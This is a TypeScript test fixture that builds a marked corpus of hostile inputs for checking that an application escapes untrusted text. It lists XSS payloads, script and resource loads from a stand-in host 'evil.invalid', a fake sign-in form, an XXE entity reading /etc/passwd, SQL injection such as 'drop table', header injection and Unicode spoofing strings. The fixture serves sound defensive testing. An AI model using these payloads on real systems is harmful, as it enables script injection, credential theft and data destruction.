/**
 * What a stranger may write where the network asks for a name, a hypothesis, a reason. Whatever of it gets into a page as markup is found by
 * its element (`x-evil`), by `alert`, or by what it asks another origin for. Each begins with a mark of its own, so that it can be looked for.
 */
const run = 'alert(1)';
const evil = 'https://evil.invalid/x';

const attempts: readonly string[] = [
  // Markup.
  `<x-evil>`,
  `<script>${run}</script>`,
  `<script src=${evil}></script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${evil}">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data=${evil}></object><embed src=${evil}>`,
  `<base href=${evil}>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<link rel=stylesheet href=${evil}>`,
  `<form action=${evil}><button>Sign in`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<!--><x-evil>-->`,
  `</live-piece></main></body><x-evil>`,
  `</title></style></textarea></noscript><x-evil>`,
  `<plaintext>`,
  `<a href="javascript:${run}">x</a>`,
  // Out of attributes.
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  '` onmouseover=`alert(1)` x=`',
  `"><x-evil>`,
  `'><x-evil>`,
  `x onmouseover=${run} `,
  // SVG and MathML.
  `<svg onload=${run}>`,
  `<svg><script href=data:,${run} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `</text></svg><x-evil>`,
  `<svg><foreignObject><x-evil></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><x-evil></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<noscript><p title="</noscript><x-evil>">`,
  // Templates, JSON, JavaScript.
  `\${alert(1)}{{alert(1)}}<%= alert(1) %>#{alert(1)}`,
  `!\${alert(1)}`,
  `"},"injected":true,"x":{"`,
  `\\u003cx-evil\\u003e\\"\\`,
  `'-${run}-'`,
  `*/${run}/*`,
  '__proto__',
  'constructor',
  // Styles.
  `</style><x-evil>`,
  `;background:url(${evil})`,
  `}body{display:none}@import '${evil}';`,
  `expression(${run})`,
  // Addresses.
  `javascript:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `//evil.invalid/x`,
  `/\\evil.invalid`,
  `http://evil.invalid@127.0.0.1/`,
  // Entities and XML.
  `&lt;x-evil&gt;&#60;x-evil&#62;&#x3c;x-evil>`,
  `&amp;lt;x-evil&amp;gt;`,
  `]]><x-evil/><![CDATA[`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<?xml-stylesheet href="${evil}"?>`,
  // Markdown.
  `[x](javascript:${run})`,
  `![x](${evil})`,
  `[x]: ${evil} "x"`,
  `<${evil}>`,
  '```\n<x-evil>\n```',
  `| a |\n|---|\n| <x-evil> |`,
  // SQL.
  `'; drop table nodes; --`,
  `' or '1'='1`,
  `%' union select note from checkpoints --`,
  `\\'; select pg_sleep(60); --`,
  // Lines and headers.
  `x\r\nSet-Cookie: evil=1\r\n\r\n<x-evil>`,
  `x\n\nevent: piece\ndata: {"id":"x"}\n\n`,
  `x\u2028${run}\u2029`,
  // What cannot be seen.
  `\u202Egpj.exe\u202C`,
  `\u2066<x-evil>\u2069`,
  `a\u200Bd\u200Bm\u200Bi\u200Bn\uFEFF`,
  `\u0001\u0007\u001B[31mred\u001B[0m\u007F\u009B`,
  `e${'\u0301'.repeat(400)}`,
  `\uDC00\uD800`,
  `\u{E0041}\u{E0042}`,
  // Huge.
  'W'.repeat(4_000),
  `${'<b>'.repeat(2_000)}`,
  '\u{1F469}\u200D\u{1F680}'.repeat(300),
];

export interface Strange {
  readonly mark: string;
  readonly text: string;
}

/** PostgreSQL and JSON keep no lone surrogates and no NUL: those are for addresses. */
export const corpus: readonly Strange[] = attempts.map((attempt, n) => {
  const mark = `S${String(n).padStart(2, '0')}`;
  return { mark, text: `${mark} ${attempt.toWellFormed()}` };
});

export const allAtOnce: string = corpus.map(({ text }) => text).join('\n\n');

/** In turn, one after the other, over and over. */
export function strangers(): () => string {
  let next = 0;
  return () => corpus[next++ % corpus.length]?.text ?? '';
}
